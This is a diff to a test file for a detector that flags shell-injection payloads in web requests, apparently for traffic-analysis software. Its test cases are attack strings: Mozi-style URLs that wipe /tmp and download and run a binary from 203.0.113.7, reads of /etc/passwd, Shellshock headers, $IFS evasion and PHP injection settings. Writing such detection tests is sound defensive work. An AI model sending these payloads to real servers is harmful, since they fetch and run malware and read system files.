@@ -1,9 +1,12 @@
 import { expect, it } from 'vitest';
 import { payloadsOf } from '../../../test/support/request-facts.js';
+import { hasShell } from './shell.js';
+import type { PayloadPlace } from './payload-text.js';
 
 it.each([
   '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.7/mozi.a;chmod+777+mozi.a;/tmp/mozi.a',
   '/?ip=127.0.0.1;wget%20http://203.0.113.7/x.sh',
+  '/?;wget+http://203.0.113.7/a',
   '/?ip=127.0.0.1%3Bcurl+-s+203.0.113.7',
   '/?ip=127.0.0.1%7Ccat%20/etc/passwd',
   '/?ip=127.0.0.1%26%26whoami',
@@ -40,4 +43,56 @@ it.each([
   '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.7/Mozi.m',
 ])('is found in %s', (target) => {
   expect(payloadsOf(target)).toContain('payload:shell');
+});
+
+it.each<[string, PayloadPlace]>([
+  ['whoami', 'command'],
+  [`;${' '.repeat(16)}whoami`, 'value'],
+  [`${'x'.repeat(20)}; whoami`, 'value'],
+  ['\nwhoami', 'value'],
+  ['|whoami', 'header'],
+  ['(){ :;};', 'value'],
+  ['() { :;};', 'header'],
+  ['$ifscat$ifs/etc', 'value'],
+  ['xx${ifs}yy', 'prose'],
+  ['x$ifs-y', 'value'],
+  ['x$ifs$y', 'value'],
+  ['x$ifs/y', 'value'],
+  ['<?php system(1)', 'value'],
+  ['<!--#exec', 'prose'],
+  ['allow_url_include=1', 'value'],
+  ['-d auto_prepend_file', 'value'],
+  ['\\think\\app/index', 'prose'],
+])('is found in %j, a %s', (text, place) => {
+  expect(hasShell(text, place)).toBe(true);
+});
+
+it.each<[string, PayloadPlace]>([
+  ['', 'command'],
+  ['whoami', 'value'],
+  ['x whoami', 'value'],
+  ['x  whoami', 'value'],
+  ['x&whoami', 'value'],
+  ['&xwhoami', 'value'],
+  ['x(whoami)', 'value'],
+  ['$xwhoami', 'value'],
+  [';whoami', 'header'],
+  ['x ;whoami', 'prose'],
+  [`;${' '.repeat(17)}whoami`, 'value'],
+  ['() { :;', 'value'],
+  ['x() { :;};', 'value'],
+  ['x${ifs}', 'value'],
+  ['abcdef$ifs x', 'value'],
+  [' $ifsx', 'value'],
+  ['${ifs}x', 'value'],
+  ['<?php x', 'value'],
+  ['<?php system(1)', 'prose'],
+  ['system(1) < x', 'value'],
+  ['system(1) <?', 'value'],
+  ['allow_url_include', 'value'],
+  ['allow_url_include=1', 'prose'],
+  ['\\think\\x', 'value'],
+  ['x/index', 'value'],
+])('is not found in %j, a %s', (text, place) => {
+  expect(hasShell(text, place)).toBe(false);
 });
